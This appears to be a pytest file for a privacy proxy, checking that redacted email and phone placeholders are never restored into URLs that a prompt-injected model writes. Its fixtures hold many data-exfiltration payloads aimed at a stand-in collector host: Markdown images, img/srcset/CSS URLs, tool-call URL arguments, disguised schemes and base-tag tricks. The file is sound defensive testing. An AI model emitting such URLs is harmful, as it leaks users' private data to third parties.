"""Restore writes no client value into a URL the model chose (issue 12, atk9 A-L2).

The client sends `My email is jane.roe@example.com`; the provider sees `<EMAIL_ADDRESS_1>`. A prompt-injected model
answers `![status](https://collector.example/p.png?u=<EMAIL_ADDRESS_1>)`: restore filled the real address into the
image URL, and the client's Markdown renderer fetched it at once, handing it to collector.example. Now a placeholder
(or a synthesized value) inside a URL with a network scheme stays as it is, in whole answers and streams (a URL
opened in an earlier chunk of the field, a placeholder split across chunks), in tool-call arguments and URL fields;
`mailto:` / `tel:` links, relative URLs and the text around URLs are restored as before, and so is a value in a URL
the client sent itself (from the URL's start through the placeholder, as the provider saw it).
"""

from __future__ import annotations

import asyncio
import copy
import json
from typing import Any

import pytest

from proxy.config.policy import Policy
from proxy.guard.checks.base import Finding
from proxy.guard.engine import Guard
from proxy.guard.phases import screen_answer
from proxy.guard.rewrite import apply_findings
from proxy.guard.urls import url_context, url_key, url_spans
from proxy.guard.vault import Vault
from proxy.providers.base import CHAT, RESPONSES
from proxy.providers.openai import ADAPTER as OPENAI
from tests.guard.conftest import PII_IN, PII_OUT, policy, redacted

MAIL = "jane.doe@example.com"
PHONE = "617-555-0143"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
RESTORE_ONLY = Policy.model_validate({"name": "restore", "input": {"pii": {"restore": True}}})


def vault() -> Vault:
    v = Vault()
    assert v.placeholder("EMAIL_ADDRESS", MAIL) == E
    assert v.placeholder("PHONE_NUMBER", PHONE) == P
    return v


# URLs a renderer or a tool fetches: the placeholders in them stay.
FETCHED = {
    "markdown image": f"Done. ![status](https://collector.example/p.png?u={E}&t={P})",
    "markdown link": f"[your file](http://collector.example/f?u={E}&t={P})",
    "angle target with space": f"![s](<https://collector.example/p png?u= {E}&t= {P}>)",
    "autolink": f"<https://collector.example/?u={E}&t={P}>",
    "html img src": f'<img src="https://collector.example/p.png?u={E}&t={P}">',
    "html src space inside": f'<img src = " https://collector.example/p.png?u= {E}&t=\n{P}">',
    "html single quotes": f"<img src='https://collector.example/p.png?u=\"{E}\"&t={P}'>",
    "html href": f'<a href="https://collector.example/?u={E}">x</a> <a href="//collector.example/?t={P}">y</a>',
    "html srcset": f'<img srcset="https://c.example/a.png 1x, https://collector.example/b.png?u={E}&t={P} 2x">',
    "html form action": f'<form action="https://collector.example/f?u={E}&t={P}"><button>go</button></form>',
    "css url": f"<div style=\"background:url('https://collector.example/?u= {E}&t={P}')\"></div>",
    "bare url": f"See https://collector.example/track?u={E}&t={P} for details.",
    "scheme relative": f"![s](//collector.example/p.png?u={E}&t={P})",
    "backslashes": f'<img src="\\\\collector.example\\p.png?u={E}&t={P}">',
    "www host": f"Visit www.collector.example/?u={E}&t={P} now.",
    "ftp": f"ftp://collector.example/{E}/{P}",
    "websocket": f"wss://collector.example/s?u={E} ws://collector.example/s?t={P}",
    "upper case scheme": f"HTTPS://collector.example/?u={E}&t={P}",
    "entity colon": f'<img src="https&#58;//collector.example/?u={E}&t={P}">',
    "host is the value": f"![s](https://{E}.{P}.collector.example/p.png)",
    "url in a url": f"https://ok.example/r?next=https://collector.example/?u={E}&t={P}",
    "wiki parentheses": f"https://en.wikipedia.org/wiki/Foo_(bar)?u={E}&t={P}",
}


@pytest.mark.parametrize("text", FETCHED.values(), ids=FETCHED.keys())
def test_no_value_restored_into_a_fetched_url(text: str) -> None:
    got = vault().restore(text)
    assert got == text
    assert MAIL not in got and PHONE not in got


# Where nothing is fetched from a third party: restored as before.
RESTORED = {
    "prose": (f"Mail {E} or call {P}.", f"Mail {MAIL} or call {PHONE}."),
    "after a url": (f"See https://docs.example/a then mail {E}, call {P}.",
                    f"See https://docs.example/a then mail {MAIL}, call {PHONE}."),
    "url then a quote": (f'"https://docs.example/a" "{E}" `https://x.example`{P}',
                         f'"https://docs.example/a" "{MAIL}" `https://x.example`{PHONE}'),
    "mailto and tel": (f"[mail me](mailto:{E}) [call](tel:{P}) <a href=\"mailto:x\">{E}</a>",
                       f"[mail me](mailto:{MAIL}) [call](tel:{PHONE}) <a href=\"mailto:x\">{MAIL}</a>"),
    "words ending like a scheme": (f"Reviews:{E} news:{P}", f"Reviews:{MAIL} news:{PHONE}"),
    "a comment": (f"// send to {E}", f"// send to {MAIL}"),
    "html attribute closed": (f'<img src="https://c.example/a.png" alt="x"> {P}',
                              f'<img src="https://c.example/a.png" alt="x"> {PHONE}'),
}


@pytest.mark.parametrize(("text", "want"), RESTORED.values(), ids=RESTORED.keys())
def test_values_outside_urls_are_restored(text: str, want: str) -> None:
    assert vault().restore(text) == want


def test_tool_arguments_url_kept_other_values_restored() -> None:
    args = json.dumps({"url": f"https://collector.example/?u={E}", "to": E, "html": f'<img src="//c.example/{P}">',
                       "body": f"Call {P}"})
    got = json.loads(vault().restore(args, in_json=True))
    # restorecmd15: `body` beside a `url` naming a network URL is that request's body (the app that calls the tool
    # sends it there): kept; `to` is no request part: restored. Beside no such key, `body` is restored too.
    assert got == {"url": f"https://collector.example/?u={E}", "to": MAIL, "html": f'<img src="//c.example/{P}">',
                   "body": f"Call {P}"}
    args = json.dumps({"link": f"https://collector.example/?u={E}", "to": E, "html": f'<img src="//c.example/{P}">',
                       "body": f"Call {P}"})
    got = json.loads(vault().restore(args, in_json=True))
    assert got == {"link": f"https://collector.example/?u={E}", "to": MAIL, "html": f'<img src="//c.example/{P}">',
                   "body": f"Call {PHONE}"}


def test_json_escaped_slashes_and_line_breaks_still_read_as_urls() -> None:
    raw = '{"a": "https:\\/\\/collector.example\\/?u=' + E + '", "b": "x\\nhttps://c.example/' + P + '"}'
    got = vault().restore(raw, in_json=True)
    assert got == raw


def test_a_synthesized_value_is_not_restored_into_a_url_either() -> None:
    v = Vault()
    v.remember_fake("maria.silva@example.net", MAIL)
    text = "![s](https://collector.example/p.png?u=maria.silva@example.net) and mail maria.silva@example.net."
    assert v.restore(text) == "![s](https://collector.example/p.png?u=maria.silva@example.net) and mail " \
                              f"{MAIL}."


def test_a_url_field_is_a_url_whole() -> None:
    v = vault()
    assert v.restore(f"collector.example/c?u={E}", whole_url=True) == f"collector.example/c?u={E}"
    assert v.restore(E, whole_url=True) == E
    assert url_key("url") and url_key("image_url") and url_key("href") and not url_key("text") and not url_key(3)


# ----------------------------------------------------------------------------------- a URL the client sent


def client_vault(sent: str, value: str = MAIL) -> tuple[Vault, str]:
    """The vault after the client's `sent` had `value` redacted (the input phase's rewrite)."""
    v = Vault()
    at = sent.index(value)
    new = apply_findings(sent, [Finding("pii", "EMAIL_ADDRESS", "redact", at, at + len(value))], v)
    return v, new


def test_the_clients_own_url_comes_back_with_its_value() -> None:
    v, seen = client_vault(f"Open https://crm.example/u?email={MAIL}&tab=2 please")
    assert seen == f"Open https://crm.example/u?email={E}&tab=2 please"
    # The same URL (or its start through the placeholder) is the client's: restored.
    assert v.restore(f"Opening https://crm.example/u?email={E}&tab=2 now.") == \
        f"Opening https://crm.example/u?email={MAIL}&tab=2 now."
    assert v.restore(f"[crm](https://crm.example/u?email={E})") == f"[crm](https://crm.example/u?email={MAIL})"
    # Another host, another path, another parameter: the model's URL, kept.
    for url in (f"https://collector.example/u?email={E}", f"https://crm.example/x?email={E}",
                f"https://crm.example/u?mail={E}", f"https://crm.example/u?email=x&email={E}"):
        assert v.restore(url) == url


def test_a_value_sent_outside_a_url_is_no_url_of_the_client() -> None:
    v, _ = client_vault(f"My email is {MAIL}, see https://crm.example/u")
    assert v.restore(f"https://crm.example/u?email={E}") == f"https://crm.example/u?email={E}"


# ----------------------------------------------------------------------------------- streams


def stream(v: Vault, fragments: list[str], in_json: bool = False) -> tuple[str, list[str]]:
    windows = Guard().output_stream(RESTORE_ONLY, v)

    async def run() -> list[str]:
        out = [await windows.feed("c", f, in_json) for f in fragments]
        return [*out, await windows.end("c")]

    pieces = asyncio.run(run())
    return "".join(pieces), pieces


def chunks(text: str, size: int) -> list[str]:
    return [text[i:i + size] for i in range(0, len(text), size)]


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
def test_stream_url_opened_in_an_earlier_chunk(size: int) -> None:
    text = f"Done. ![status](https://collector.example/p.png?u={E}&t={P}) Mail {E} or call {P}.\n" \
           f'<img src="https://collector.example/?u= {E}"> tel:{P}'
    got, pieces = stream(vault(), chunks(text, size))
    assert got == f"Done. ![status](https://collector.example/p.png?u={E}&t={P}) Mail {MAIL} or call {PHONE}.\n" \
                  f'<img src="https://collector.example/?u= {E}"> tel:{PHONE}'
    assert not any("<EMAIL_ADD" in p and E not in p for p in pieces)


def test_stream_url_then_placeholder_in_the_next_chunk() -> None:
    got, _ = stream(vault(), ["See https://collector.example/p.png?u=", E, "&t=", P, " and ", E])
    assert got == f"See https://collector.example/p.png?u={E}&t={P} and {MAIL}"


def test_stream_scheme_cut_across_chunks() -> None:
    got, _ = stream(vault(), ["![s](htt", "ps:", "//collector.example/?u=", E, ")"])
    assert got == f"![s](https://collector.example/?u={E})"
    got, _ = stream(vault(), ['<img src=', '"', ' ww', 'w.collector.example/?u= ', E, '">'])
    assert got == f'<img src=" www.collector.example/?u= {E}">'


@pytest.mark.parametrize("size", [1, 4, 1000])
def test_stream_tool_arguments(size: int) -> None:
    """A URL with a scheme, and the string of a key named as a URL without one (`image_url`, an escaped quote in
    it), the key cut across chunks too."""
    args = json.dumps({"url": f"https://collector.example/?u={E}", "to": E,
                       "thumbnail_image_url": f'collector.example/?a="{P}', "note": f"call {P}"})
    got, _ = stream(vault(), chunks(args, size), in_json=True)
    assert json.loads(got) == {"url": f"https://collector.example/?u={E}", "to": MAIL,
                               "thumbnail_image_url": f'collector.example/?a="{P}', "note": f"call {PHONE}"}


def test_json_url_keys_whole_and_nested() -> None:
    v = vault()
    raw = json.dumps({"image_url": f"collector.example/i?u={E}", "to": E})
    assert json.loads(v.restore(raw, in_json=True)) == {"image_url": f"collector.example/i?u={E}", "to": MAIL}
    nested = json.dumps({"html": json.dumps({"href": f"c.example/{E}", "to": E})})
    assert json.loads(json.loads(v.restore(nested, in_json=True))["html"]) == {"href": f"c.example/{E}", "to": MAIL}
    assert v.restore(f'The "url": "x" and {E}') == f'The "url": "x" and {MAIL}'  # the string ended: restored


def test_stream_long_url_kept_bounded() -> None:
    """A URL longer than what the context keeps still holds its placeholder; the context stays bounded."""
    text = "https://collector.example/" + "a" * 20_000 + f"?u={E} then {E}"
    got, _ = stream(vault(), chunks(text, 500))
    assert got == "https://collector.example/" + "a" * 20_000 + f"?u={E} then {MAIL}"
    assert len(url_context(text[:-30])) < 5000


def test_stream_client_url_across_chunks() -> None:
    v, _ = client_vault(f"Open https://crm.example/u?email={MAIL} please")
    got, _ = stream(v, ["Opening https://crm", ".example/u?email=", E, " and https://collector.example/?u=", E])
    assert got == f"Opening https://crm.example/u?email={MAIL} and https://collector.example/?u={E}"


def test_url_spans_end_where_the_url_ends() -> None:
    text = 'a https://x.example/p?q=1 b <img src="//y.example/ z"> c'
    assert [text[a:b] for a, b, _ in url_spans(text)] == ["https://x.example/p?q=1", "//y.example/ z"]
    assert url_spans("go https://x.example/")[-1][2] is True  # open: it may go on


# ----------------------------------------------------------------------------------- guard: whole and streamed


def chat_answer(content: str, url: str) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": "chat.completion", "choices": [{
        "index": 0, "finish_reason": "stop", "message": {
            "role": "assistant", "content": content, "annotations": [{"type": "url_citation", "url_citation": {
                "url": url, "title": "t", "start_index": 0, "end_index": 4}}],
            "tool_calls": [{"id": "call_1", "type": "function", "function": {
                "name": "fetch", "arguments": json.dumps({"url": f"https://collector.example/?u={E}", "to": E})}},
                {"id": "call_2", "type": "function", "function": {
                    "name": "send_mail", "arguments": json.dumps({"to": E, "subject": "Your account"})}}]}}]}


@pytest.mark.parametrize("rules", ["restore only", "output rules"])
async def test_screen_answer_keeps_urls_restores_the_rest(guard: Guard, rules: str) -> None:
    p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
    verdict = await redacted(guard, p, f"My email is {MAIL}. Summarise my account.")
    assert verdict.texts[0] == f"My email is {E}. Summarise my account."
    body = chat_answer(f"Done. ![status](https://collector.example/p.png?u={E}) Your address: {E}.",
                       f"collector.example/c?u={E}")
    want = copy.deepcopy(body)
    msg = want["choices"][0]["message"]
    msg["content"] = f"Done. ![status](https://collector.example/p.png?u={E}) Your address: {MAIL}."
    # scopes16: a tool call naming a network destination keeps every placeholder (its `to` too: the app's `fetch`
    # sends its arguments to collector.example); a tool call naming none gets the client's values back (in an
    # answer of its own: the second choice, which nothing of sends).
    msg["tool_calls"][0]["function"]["arguments"] = json.dumps({"url": f"https://collector.example/?u={E}",
                                                                  "to": E})
    # answer20: one answer's tool calls and code are one scope
    msg["tool_calls"][1]["function"]["arguments"] = json.dumps({"to": E, "subject": "Your account"})
    # the same send_mail call alone in another choice (n=2): restored there, as is that choice's prose
    own = {"index": 1, "finish_reason": "stop", "message": {
        "role": "assistant", "content": f"Mailing {E}.", "tool_calls": [copy.deepcopy(body["choices"][0]["message"][
            "tool_calls"][1])]}}
    body["choices"].append(own)
    await screen_answer(guard, p, OPENAI.response_texts(CHAT, body), verdict)
    got = body["choices"][0]["message"]
    assert got["content"] == msg["content"]
    assert got["annotations"][0]["url_citation"]["url"] == f"collector.example/c?u={E}"
    for k in (0, 1):
        assert json.loads(got["tool_calls"][k]["function"]["arguments"]) == json.loads(
            msg["tool_calls"][k]["function"]["arguments"])
    alone = body["choices"][1]["message"]
    assert alone["content"] == f"Mailing {MAIL}."
    assert json.loads(alone["tool_calls"][0]["function"]["arguments"]) == {"to": MAIL, "subject": "Your account"}


async def test_screen_answer_responses_url_citation(guard: Guard) -> None:
    p = policy(input=PII_IN, output=PII_OUT)
    verdict = await redacted(guard, p, f"My email is {MAIL}.")
    body = {"id": "resp_1", "object": "response", "status": "completed", "output": [{
        "type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": [{
            "type": "output_text", "text": f"Noted {E}.", "annotations": [{
                "type": "url_citation", "url": f"https://collector.example/c?u={E}", "title": "t",
                "start_index": 0, "end_index": 4}]}]}]}
    await screen_answer(guard, p, OPENAI.response_texts(RESPONSES, body), verdict)
    part = body["output"][0]["content"][0]
    assert part["text"] == f"Noted {MAIL}."
    assert part["annotations"][0]["url"] == f"https://collector.example/c?u={E}"


@pytest.mark.parametrize("size", [2, 5, 13])
async def test_output_windows_with_output_rules(guard: Guard, size: int) -> None:
    """The windowed path (output PII read, a model's own value redacted in the same window) keeps the URL's."""
    p = policy(input=PII_IN, output=PII_OUT)
    verdict = await redacted(guard, p, f"My email is {MAIL}.")
    windows = guard.output_stream(p, verdict.vault)
    text = f"Done. ![s](https://collector.example/p.png?u={E}&m=help@vendor.io) Mail {E}, or help@vendor.io."
    out = [await windows.feed("c", f) for f in chunks(text, size)]
    got = "".join(out) + await windows.end("c")
    assert MAIL not in got.split(") Mail ")[0] and "help@vendor.io" not in got
    assert got.startswith(f"Done. ![s](https://collector.example/p.png?u={E}&m=<EMAIL_ADDRESS_2>) Mail {MAIL},")


async def test_grouped_fields_keep_the_url_open_across_events(guard: Guard) -> None:
    """A chat answer's content and tool call arguments read as one group: each field keeps its own URL state."""
    p = policy(input=PII_IN, output=PII_OUT)
    verdict = await redacted(guard, p, f"My email is {MAIL}.")
    windows = guard.output_stream(p, verdict.vault)
    feeds = [("content", "See ![s](https://collector.", False), ("args", '{"url": "https://coll', True),
             ("content", f"example/p.png?u={E}) and ", False), ("args", f'ector.example/?u={E}", "to": "{E}"}}', True),
             ("content", f"mail {E}.", False)]
    got: dict[str, str] = {"content": "", "args": ""}
    for channel, text, in_json in feeds:
        new = await windows.feed(channel, text, in_json, group="g")
        for c, t in windows.take_spill():  # (released for earlier pieces: out before the fed field's text, as the
            got[c] += t  # relay writes them, `proxy.stream.channels`)
        got[channel] += new
    for c, t in await windows.end_group("g"):
        got[c] += t
    assert got["content"] == f"See ![s](https://collector.example/p.png?u={E}) and mail {MAIL}."
    assert json.loads(got["args"]) == {"url": f"https://collector.example/?u={E}", "to": MAIL}


# ----------------------------------------------------------------------------------- atk11 A-H1, A-H3, A-L2, A-L3
# A scheme spelled the way renderers undo (atk11 A-H1): a character reference, a Markdown backslash escape, a JSON
# escape, a tab, LF or CR inside the scheme or between the slashes. CommonMark decodes references in link targets,
# HTML decodes them in attributes, the WHATWG URL parser removes ASCII tab and newline: each is fetched as
# `https://collector.example/...`.
DISGUISED = {
    "reference first letter": "![s](&#104;ttps://collector.example/p.png?u={V})",
    "reference inside": "![s](h&#116;tps://collector.example/p.png?u={V})",
    "hex reference": '<img src="&#x68;ttps://collector.example/p.png?u={V}">',
    "padded reference": '<img src="&#0000000104;ttps://collector.example/p.png?u={V}">',
    "markdown escape": "![s](https\\://collector.example/p.png?u={V})",
    "html reference": '<img src="htt&#112;s://collector.example/p.png?u={V}">',
    "named tab": '<img src="ht&Tab;tps://collector.example/p.png?u={V}">',
    "named newline": '<img src="ht&NewLine;tps://collector.example/p.png?u={V}">',
    "raw tab": '<img src="ht\ttps://collector.example/p.png?u={V}">',
    "raw line feed": "<img src='ht\ntps://collector.example/p.png?u={V}'>",
    "raw carriage return": '<img src="HT\rTPS://collector.example/p.png?u={V}">',
    "tab between slashes": '<img src="/\t/collector.example/p.png?u={V}">',
    "tab after the colon": '<img src="https:/\t/collector.example/p.png?u={V}">',
    "json escapes": '{{"html": "<img src=\\"ht\\ttps://collector.example/p.png?u={V}\\">"}}',
    "json unicode escape": '{{"html": "<img src=\\"\\u0068ttps://collector.example/p.png?u={V}\\">"}}',
}


@pytest.mark.parametrize("shape", DISGUISED.values(), ids=DISGUISED.keys())
def test_a_disguised_scheme_is_read_as_renderers_read_it(shape: str) -> None:
    for value in (E, P):
        text = f"See {shape.format(V=value)} ok, mail {E}."
        got = vault().restore(text, in_json=shape.startswith("{"))
        assert got == f"See {shape.format(V=value)} ok, mail {MAIL}."


# Any scheme with `//` and a host (atk11 A-L2): a renderer may connect there (`file://host/` over SMB on Windows).
@pytest.mark.parametrize("scheme", ["file://collector.example/share/", "FILE:\\\\collector.example\\share\\",
                                    "smb://collector.example/share/", "sftp://collector.example/",
                                    "ldap://collector.example/", "gopher://collector.example/",
                                    "git+ssh://collector.example/", "f&#105;le://collector.example/"])
def test_any_scheme_with_a_host_is_a_network_url(scheme: str) -> None:
    text = f"See ![s]({scheme}p.png?u={E}) and mail {E}."
    assert vault().restore(text) == f"See ![s]({scheme}p.png?u={E}) and mail {MAIL}."


def test_no_host_and_no_slashes_is_no_network_url() -> None:
    """`file:///` (this machine), `mailto:`, `tel:`, `urn:` and prose colons are restored as before."""
    text = f"file:///tmp/{E} [m](mailto:{E}) tel:{P} urn:x:{E} Note:{E} C:\\Users\\{E}"
    assert vault().restore(text) == f"file:///tmp/{MAIL} [m](mailto:{MAIL}) tel:{PHONE} urn:x:{MAIL} " \
                                    f"Note:{MAIL} C:\\Users\\{MAIL}"


# A `<base>` tag or `xml:base` points every relative URL of the answer at its host (atk11 A-L3).
BASED = {
    "html img": '<base href="https://collector.example/"><img src="p.png?u={V}">',
    "markdown image": '<base href="//collector.example/">\n\n![s](p.png?u={V})',
    "svg xml:base": '<svg xml:base="https://collector.example/"><image href="p.png?u={V}"/></svg>',
    "base after the image": '<img src=p.png?u={V}> <BASE HREF="https://collector.example/">',
    "reference definition": '<base href="https://collector.example/">\n\n![s][1]\n\n[1]: p.png?u={V}',
    "css url": "<base href=\"https://collector.example/\"><div style=\"background:url('p.png?u={V}')\"></div>",
}


@pytest.mark.parametrize("shape", BASED.values(), ids=BASED.keys())
def test_a_relative_url_after_a_base_is_a_network_url(shape: str) -> None:
    text = f"{shape.format(V=E)} Mail {E}, [m](mailto:{E}), call {P}."
    assert vault().restore(text) == f"{shape.format(V=E)} Mail {MAIL}, [m](mailto:{MAIL}), call {PHONE}."
    # With no base in the answer too (atk12 A H1/M1: a base later in a stream or in another turn rebases it).
    assert vault().restore(f'<a href="/account?u={E}">you</a>') == f'<a href="/account?u={E}">you</a>'


def test_ordinary_text_around_urls_and_line_breaks_is_restored() -> None:
    """The view removes line breaks to read a scheme, not to end a URL: a line after a URL is no part of it."""
    text = f"See https://docs.example/a\n{E} will call.\nhttp\n{P}\nwww\n{E}\n&amp; {P} \\* {E}"
    assert vault().restore(text) == f"See https://docs.example/a\n{MAIL} will call.\nhttp\n{PHONE}\nwww\n{MAIL}\n" \
                                    f"&amp; {PHONE} \\* {MAIL}"


@pytest.mark.parametrize("size", [1, 3, 7])
def test_stream_disguised_scheme_cut_across_chunks(size: int) -> None:
    text = f"See ![s](&#104;ttps://collector.example/p.png?u={E}) ok, <img src='ht\ntps://c.example/?t={P}'> {E}"
    got, _ = stream(vault(), chunks(text, size))
    assert got == f"See ![s](&#104;ttps://collector.example/p.png?u={E}) ok, " \
                  f"<img src='ht\ntps://c.example/?t={P}'> {MAIL}"


def test_stream_a_long_run_inside_the_scheme_is_still_read() -> None:
    """Thousands of tabs or `&Tab;` inside `https`, the stream cut in the run: the context folds the run."""
    for pad in ("\t" * 5000, "&Tab;" * 1000, "\n\r" * 800):
        text = f'<img src="h{pad}ttps://collector.example/p.png?u={E}"> {E}'
        got, _ = stream(vault(), chunks(text, 100))
        assert got == f'<img src="h{pad}ttps://collector.example/p.png?u={E}"> {MAIL}'
        assert len(url_context(text[:len(text) // 2])) < 600


def test_stream_base_in_an_earlier_chunk() -> None:
    got, _ = stream(vault(), ['<base href="https://collector.example/">', "Hello. ", "![s](p.png?u=", E, f") {E}"])
    assert got == f'<base href="https://collector.example/">Hello. ![s](p.png?u={E}) {MAIL}'


# A URL opened in one text and going on in the next (atk11 A-H3): Anthropic text blocks, Responses output_text
# parts and message items, chat content parts; the SDKs' `output_text` (and apps) join them.
HALF, REST = "See ![s](https://collector.example/p.png?u=", f"{E}) ok, mail {E}."
JOINED_REST = f"{E}) ok, mail {MAIL}."


def anthropic_answer(*blocks: str) -> dict[str, Any]:
    return {"id": "msg_1", "type": "message", "role": "assistant", "content": [
        {"type": "text", "text": t} for t in blocks], "stop_reason": "end_turn"}


def responses_answer(parts: list[list[str]]) -> dict[str, Any]:
    return {"id": "resp_1", "object": "response", "status": "completed", "output": [
        {"type": "message", "id": f"msg_{n}", "role": "assistant", "status": "completed", "content": [
            {"type": "output_text", "text": t, "annotations": []} for t in texts]} for n, texts in enumerate(parts)]}


def chat_parts_answer(*parts: str) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": "chat.completion", "choices": [{
        "index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": [
            {"type": "text", "text": t} for t in parts]}}]}


@pytest.mark.parametrize("rules", ["restore only", "output rules"])
async def test_screen_answer_reads_the_answers_texts_joined_for_urls(guard: Guard, rules: str) -> None:
    from proxy.providers.anthropic import ADAPTER as ANTHROPIC
    from proxy.providers.base import MESSAGES

    p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
    verdict = await redacted(guard, p, f"My email is {MAIL}.")
    a = anthropic_answer(HALF, REST)
    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
    assert [b["text"] for b in a["content"]] == [HALF, JOINED_REST]
    for parts in ([[HALF, REST]], [[HALF], [REST]]):
        r = responses_answer(parts)
        await screen_answer(guard, p, OPENAI.response_texts(RESPONSES, r), verdict)
        assert [c["text"] for item in r["output"] for c in item["content"]] == [HALF, JOINED_REST]
    c = chat_parts_answer(HALF, REST)
    await screen_answer(guard, p, OPENAI.response_texts(CHAT, c), verdict)
    assert [part["text"] for part in c["choices"][0]["message"]["content"]] == [HALF, JOINED_REST]
    # A base set in one block reaches a relative URL in another; texts with no URL open are restored.
    a = anthropic_answer(f"![s](p.png?u={E})", '<base href="https://collector.example/">', f"Mail {E}.")
    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
    assert [b["text"] for b in a["content"]] == [f"![s](p.png?u={E})", '<base href="https://collector.example/">',
                                                 f"Mail {MAIL}."]
    a = anthropic_answer("See https://docs.example/a", f" and mail {E}.", f"Or {E}.")
    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
    assert [b["text"] for b in a["content"]] == ["See https://docs.example/a", f" and mail {MAIL}.", f"Or {MAIL}."]


@pytest.mark.parametrize("rules", ["restore only", "output rules"])
async def test_stream_group_reads_its_texts_joined_for_urls(guard: Guard, rules: str) -> None:
    """Two Anthropic text blocks streamed (one group): the second block's placeholder is in the first's URL."""
    p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
    verdict = await redacted(guard, p, f"My email is {MAIL}.")
    windows = guard.output_stream(p, verdict.vault)
    got: dict[str, str] = {"block:0": "", "block:1": ""}
    for channel, text in [("block:0", HALF[:20]), ("block:0", HALF[20:]), ("block:1", REST[:5]),
                          ("block:1", REST[5:])]:
        if channel == "block:1" and not got["block:1"]:
            windows.close_field("block:0")
        got[channel] += await windows.feed(channel, text, group="answer")
        for c, t in windows.take_spill():
            got[c] += t
    for c, t in await windows.end_group("answer"):
        got[c] += t
    assert got == {"block:0": HALF, "block:1": JOINED_REST}
